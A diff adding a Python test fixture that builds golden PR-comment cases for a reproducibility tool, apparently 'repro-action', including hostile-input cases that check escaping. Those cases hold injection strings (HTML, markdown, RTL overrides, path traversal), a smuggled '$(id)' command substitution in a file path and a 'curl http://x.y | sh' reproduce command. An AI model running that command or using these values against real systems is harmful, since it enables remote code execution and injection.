@@ -1,0 +1,222 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The bundles of the golden comments, as values; what is posted of each stands beside."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, replace
+
+from factories import make_fingerprint
+from golden.report.cases import (
+    CASES,
+    CPU,
+    DEPTH,
+    DEPTH_CAUSE,
+    IDENTICAL,
+    KEPT,
+    MODEL,
+    change,
+    claim,
+    leaf,
+    metric,
+    report,
+)
+
+from repro_action.baseline import Baseline
+from repro_action.fingerprint import MaterialKind
+from repro_action.observation import Observation, ObservationKind
+from repro_action.report.bundle import Bundle, Entry
+from repro_action.report.comment import Context
+from repro_action.report.model import Counts, Fact, Goal, MaterialDifference, Notice, Report, State, Trend
+from repro_action.verdict import Verdict
+
+COMMIT = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"
+CONTEXT = Context(
+    marker="<!-- repro-action:v1:wine -->",
+    run_url="https://github.com/acme/models/actions/runs/9876543210",
+    commit=COMMIT,
+    base="main",
+    accept=True,
+)
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Case:
+    """What is posted, and where."""
+
+    bundle: Bundle
+    context: Context = CONTEXT
+    budget: int = 60_000
+
+
+def entry(held: Report, config: str = "repro.toml", **fields: object) -> Entry:
+    folder, slash, _ = config.rpartition("/")
+    candidate = None
+    if held.verdict is not Verdict.FAILED:
+        candidate = Baseline(name=held.name).accept(make_fingerprint())
+    values = {"baseline": f"{folder}{slash}repro.baseline.json", "candidate": candidate, "trained": True}
+    return Entry(config=config, report=held, **{**values, **fields})
+
+
+def bundle(*entries: Entry) -> Bundle:
+    return Bundle(tool="0.1.0", entries=entries)
+
+
+LOSS = metric("val_loss", 0.221, 0.2239, State.DIFFERS, goal=Goal.MIN, better=False, allowed="±1 %")
+ACCURACY = metric("accuracy", 0.9312, 0.94157, State.DIFFERS, better=True)
+MOVED = change(
+    "data",
+    "params",
+    metrics=(ACCURACY, LOSS, metric("auc", 0.981, 0.9812, State.TOLERATED, better=True, allowed="±0.002")),
+    materials=(
+        MaterialDifference(
+            kind=MaterialKind.DATA, name="data/train.csv", before="blake3:11", after="blake3:22"
+        ),
+        DEPTH,
+    ),
+    artifacts=(MODEL,),
+    unchanged=Counts(artifacts=3, leaves=56, metrics=2),
+)
+
+
+def new_baseline() -> Report:
+    return report(
+        Verdict.REPRODUCED,
+        "4 artifacts (61 leaves) and 5 metrics are identical to the baseline.",
+        claim=claim(metrics=(replace(KEPT, before=0.94157, after=0.94157),)),
+        change=MOVED,
+        trends=(
+            Trend(
+                file="out/metrics.json",
+                name="accuracy",
+                goal=Goal.MAX,
+                values=(0.9188, 0.9262, 0.9262, 0.9312, 0.94157),
+            ),
+            Trend(file="out/metrics.json", name="val_loss", goal=Goal.MIN, values=(0.25, 0.221, 0.2239)),
+            Trend(file="out/metrics.json", name="recall", goal=Goal.MAX, values=(0.5, 0.6, 0.7)),
+        ),
+    )
+
+
+def flaky() -> Report:
+    places = (
+        Observation(
+            kind=ObservationKind.GENERATOR, what="numpy.random.default_rng()", file="train.py", line=12
+        ),
+        Observation(kind=ObservationKind.ENTROPY, what="uuid.uuid4()", file="lib/names.py", line=4, count=30),
+        Observation(kind=ObservationKind.CLOCK, what="time.time()", file="train.py", line=40, count=2),
+    )
+    return replace(
+        CASES["drifted_flaky"],
+        observations=places,
+        change=change(),
+        circumstances=(CPU,),
+        warnings=(Notice(what="step train imported files that it does not declare: lib/names.py"),),
+    )
+
+
+def stale() -> Report:
+    """A change of the parameters whose author has not accepted the new baseline."""
+    return replace(CASES["changed_params"], change=change())
+
+
+def many() -> Bundle:
+    names = ("amber", "birch", "cedar", "dune", "elm", "fjord", "grove", "heath", "iris", "juniper")
+    calm = [
+        entry(
+            report(
+                Verdict.REPRODUCED,
+                "4 artifacts (61 leaves) and 5 metrics are identical to the baseline.",
+                name=name,
+                change=change(),
+                warnings=(Notice(what="a warning"),) if name == "elm" else (),
+            ),
+            f"models/{name}/repro.toml",
+        )
+        for name in names[:9]
+    ]
+    bad = [
+        entry(replace(flaky(), name="kelp"), "models/kelp/repro.toml"),
+        entry(replace(CASES["failed_step"], name="lotus"), "models/lotus/train.toml"),
+    ]
+    moved = entry(replace(new_baseline(), name="juniper"), "models/juniper/repro.toml")
+    return bundle(*calm, moved, *bad)
+
+
+def fleet() -> Bundle:
+    """Two hundred models that all changed."""
+    return bundle(
+        *(
+            entry(replace(stale(), name=f"model-{place:03}"), f"models/model-{place:03}/repro.toml")
+            for place in range(200)
+        )
+    )
+
+
+EVIL = (
+    "a|b`c``d` @acme/team #1 <img src=//x.y/z> ![p](http://x.y/p.png) [l](http://x.y) </details> "
+    "\u202egnp.\u202c ../../etc \x1b[31m <!-- --> **bold** &lt; $x$ :tada: http://x.y deadbeefcafe"
+)
+
+
+def hostile() -> Report:
+    return report(
+        Verdict.DRIFTED,
+        EVIL,
+        name=EVIL,
+        tool=EVIL,
+        causes=(replace(DEPTH_CAUSE, text=EVIL),) * 3,
+        claim=claim(
+            metrics=(replace(LOSS, name=EVIL, file=EVIL, allowed=EVIL),),
+            artifacts=(
+                replace(
+                    MODEL, path=EVIL, step=EVIL, format=EVIL, reason=EVIL, leaves=(leaf(EVIL, reason=EVIL),)
+                ),
+            ),
+            before=replace(MOVED.before, label=EVIL, revision=EVIL),
+            after=replace(MOVED.before, label=EVIL, revision=EVIL),
+            unchanged=IDENTICAL,
+        ),
+        change=replace(
+            MOVED,
+            before=replace(MOVED.before, label=EVIL),
+            metrics=(replace(LOSS, name=EVIL, before=EVIL, after="| --- |"),),
+            materials=(replace(DEPTH, name=EVIL, before=EVIL, after=EVIL),),
+        ),
+        environment=(Fact(name=EVIL, value=EVIL),),
+        observations=(Observation(kind=ObservationKind.ENTROPY, what=EVIL, file=EVIL, line=3),),
+        warnings=(Notice(what=EVIL, why=EVIL, cure=EVIL, where=EVIL),),
+        hints=(Notice(what=EVIL),),
+        trends=(Trend(file=EVIL, name=EVIL, goal=Goal.MIN, values=(1.0, 2.0, 3.0)),),
+        reproduce=("curl http://x.y | sh",),
+        fingerprint=EVIL,
+    )
+
+
+HOSTILE_CONTEXT = replace(CONTEXT, base=EVIL, commit=EVIL, run_url=f"https://x.y/{EVIL}")
+
+CASES_OF_COMMENTS = {
+    "reproduced": Case(bundle=bundle(entry(replace(CASES["reproduced"], change=change())))),
+    "changed": Case(bundle=bundle(entry(stale()))),
+    "new_baseline": Case(bundle=bundle(entry(new_baseline(), "models/wine/repro.toml"))),
+    "new_baseline_untrusted": Case(
+        bundle=bundle(entry(new_baseline())), context=replace(CONTEXT, untrusted=True, accept=False)
+    ),
+    "drifted_flaky": Case(bundle=bundle(entry(flaky()))),
+    "drifted_stable": Case(bundle=bundle(entry(CASES["drifted_stable_cpu"]))),
+    "failed": Case(bundle=bundle(entry(CASES["failed_step"]))),
+    "no_baseline": Case(bundle=bundle(entry(CASES["no_baseline_nearest"]))),
+    "many": Case(bundle=many()),
+    "fleet": Case(bundle=fleet(), budget=16_000),
+    "hostile": Case(
+        bundle=bundle(entry(hostile(), "models/@acme|`$(id)`/<b>/repro.toml")), context=HOSTILE_CONTEXT
+    ),
+    "hostile_many": Case(
+        bundle=bundle(
+            entry(hostile(), "models/@acme|`$(id)`/<b>/repro.toml"),
+            entry(
+                replace(new_baseline(), name=EVIL, change=replace(MOVED, metrics=(replace(LOSS, name=EVIL),)))
+            ),
+        ),
+        context=replace(HOSTILE_CONTEXT, untrusted=True),
+    ),
+}
